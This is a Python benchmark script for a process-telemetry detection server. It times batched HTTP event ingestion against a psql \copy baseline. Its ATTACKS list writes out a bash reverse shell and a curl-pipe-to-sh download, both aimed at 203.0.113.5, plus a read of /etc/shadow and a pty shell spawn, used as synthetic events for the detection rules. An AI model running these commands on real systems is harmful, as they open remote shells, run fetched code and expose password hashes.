"""The row about telemetry: batches of process events over HTTP against psql's \\copy of the rows that they became."""

import contextlib
import http.client
import json
import pathlib
import random
import statistics
import subprocess
import threading
import time
import urllib.parse
import urllib.request
import uuid

from server import Server

ORDINARY = [
    ("/usr/bin/ls", ["ls", "-la", "/var/lib/app"]), ("/usr/bin/git", ["git", "status", "--porcelain"]),
    ("/usr/bin/python3.12", ["python3", "/opt/app/worker.py", "--queue", "mail"]), ("/usr/bin/sed", ["sed", "-n", "s/a/b/p", "notes.txt"]),
    ("/usr/bin/grep", ["grep", "-rn", "TODO", "src"]), ("/usr/sbin/logrotate", ["logrotate", "/etc/logrotate.conf"]),
    ("/usr/bin/make", ["make", "-j2", "all"]), ("/usr/bin/gcc-13", ["gcc", "-O2", "-c", "main.c", "-o", "main.o"]),
    ("/usr/bin/cat", ["cat", "/etc/hostname"]), ("/usr/bin/node", ["node", "/srv/web/server.js", "--port", "3000"]),
    ("/usr/bin/sleep", ["sleep", "30"]), ("/usr/bin/dpkg-query", ["dpkg-query", "-W", "-f", "${Version}", "bash"]),
]
ATTACKS = [
    ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]), ("/usr/bin/curl", ["sh", "-c", "curl http://203.0.113.5/x.sh | sh"]),
    ("/usr/bin/cat", ["cat", "/etc/shadow"]), ("/usr/bin/python3.12", ["python3", "-c", "import pty; pty.spawn('/bin/bash')"]),
]
INFORMATIONAL = [("/usr/bin/whoami", ["whoami"])]


def event(rng, number, commands, dataset, second):
    executable, arguments = commands[rng.randrange(len(commands))]
    pid = 1_000 + number % 60_000
    made = {
        "@timestamp": time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(second)) + f".{number % 1_000_000:06d}Z",
        "event": {"id": f"bench-{number}", "kind": "event", "category": ["process"], "type": ["start"], "action": "process_started", "dataset": dataset, "provider": "connector"},
        "host": {"id": "bench", "name": "bench"},
        "process": {"pid": pid, "parent": {"pid": pid - 7}, "name": executable.rsplit("/", 1)[1], "executable": executable,
                    "command_line": " ".join(arguments), "args": arguments, "working_directory": "/srv", "user": {"id": "1000", "name": "app"}},
        "user": {"id": "1000", "name": "app"},
    }
    line = json.dumps(made, separators=(",", ":"))
    if len(line) < 500:
        made["process"]["title"] = "x" * (488 - len(line))
        line = json.dumps(made, separators=(",", ":"))
    return line


def batches(commands, dataset, count, size, seed):
    """Bodies of a stream of its own, made before the clock runs."""
    rng, stream, begin = random.Random(seed), str(uuid.uuid4()), int(time.time()) - 600
    for index in range(count):
        first = index * size + 1
        lines = [json.dumps({"stream": stream, "sensor": "proc", "first": first, "count": size, "lost": []})]
        lines += [event(rng, first + i, commands, dataset, begin + (first + i) // 5_000) for i in range(size)]
        yield ("\n".join(lines) + "\n").encode()


def send(server, token, bodies, times):
    url = urllib.parse.urlsplit(server.url)
    line = http.client.HTTPConnection(url.hostname, url.port, timeout=120)
    for body in bodies:
        began = time.monotonic()
        line.request("POST", "/api/v1/telemetry", body, {"Authorization": "Bearer " + token, "Content-Type": "application/x-ndjson"})
        answer = line.getresponse()
        text = answer.read()
        if answer.status != 200:
            raise SystemExit(f"{answer.status} {text[:300]}")
        times.append(time.monotonic() - began)
    line.close()


def load(server, token, commands, dataset, senders, count, size=10_000):
    """events/s, CPU us an event of the server and of its database, and the median time of a batch."""
    bodies = [list(batches(commands, dataset, count, size, seed)) for seed in range(senders)]
    times = []
    own, database, began = server.processor(), database_seconds(server), time.monotonic()
    threads = [threading.Thread(target=send, args=(server, token, some, times)) for some in bodies]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    took = time.monotonic() - began
    events = senders * count * size
    if len(times) != senders * count:
        raise SystemExit("a batch was refused")
    return {"rate": events / took, "own": 1e6 * (server.processor() - own) / events, "bytes": statistics.mean(len(body) / size for some in bodies for body in some),
            "database": 1e6 * (database_seconds(server) - database) / events, "batch": statistics.median(times)}


def psql(server, text):
    return subprocess.run(["psql", "-qXAt", "-h", str(server.directory / "postgresql/run"), "-U", "panoptes", "postgres", "-v", "ON_ERROR_STOP=1", "-c", text], check=True, capture_output=True, text=True).stdout


def database_seconds(server):
    """CPU seconds of all PostgreSQL processes that there were: those that ended are in what their parent waited for."""
    total = 0.0
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if (process / "exe").readlink().name == "postgres" and str((process / "cwd").readlink()).startswith(str(server.directory)):
                total += sum(int(field) for field in (process / "stat").read_text().rsplit(")", 1)[1].split()[11:15]) / 100
    return total


def copy(server, work, rows, runs=3):
    """The same rows by psql into a table like that of events, with its indexes: events/s and the database's CPU us an event."""
    columns = "received_at, at, stream, number, host, sensor, action, user_name, ips, process, body"
    path = pathlib.Path(work) / "rows.tsv"
    psql(server, f"\\copy (SELECT {columns} FROM events LIMIT {rows}) TO '{path}'")
    rates, costs = [], []
    for _ in range(runs):
        psql(server, "DROP TABLE IF EXISTS bench_events; CREATE TABLE bench_events (LIKE events INCLUDING INDEXES)")
        database, began = database_seconds(server), time.monotonic()
        psql(server, f"\\copy bench_events ({columns}) FROM '{path}'")
        rates.append(rows / (time.monotonic() - began))
        costs.append(1e6 * (database_seconds(server) - database) / rows)
    psql(server, "DROP TABLE bench_events")
    return statistics.median(rates), statistics.median(costs)


def ingest(work, panoptes, row, senders=2, count=15):
    server = Server(panoptes, work / "ingest", {"limits": {"requests_per_second": 0}})
    try:
        request = urllib.request.Request(server.url + "/api/v1/tokens", json.dumps({"name": "bench", "role": "observer", "host": "bench"}).encode(),
                                         {"Authorization": "Bearer " + server.token, "Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=30) as answer:
            token = json.loads(answer.read())["token"]
        # The first batches are compiled for the rest.
        load(server, token, ORDINARY, "panoptes.proc", senders, 4)
        kinds = [("no rule looks at them", ORDINARY, "panoptes.bench"), ("ordinary ones, all rules on", ORDINARY, "panoptes.proc"),
                 ("each matching one informational rule", INFORMATIONAL, "panoptes.proc"), ("a tenth of them attacks", ORDINARY * 3 + ATTACKS, "panoptes.proc")]
        for name, commands, dataset in kinds:
            got = load(server, token, commands, dataset, senders, count)
            row("7", f"POST /api/v1/telemetry, {senders} connections, batches of 10,000 process events of {got['bytes']:.0f} bytes: {name}", "panoptes server",
                f"{got['rate']:,.0f} events/s", "60 % of COPY, 50,000; with rules 70 % of that", f"{got['own']:.1f} us of CPU an event and {got['database']:.1f} us of PostgreSQL's; a batch {got['batch']:.2f} s")
        rate, cost = copy(server, work, 200_000)
        row("7", "the same rows, with the same indexes", "psql \\copy", f"{rate:,.0f} events/s", "", f"alone on the machine; {cost:.1f} us of PostgreSQL's CPU an event")
    finally:
        server.stop()
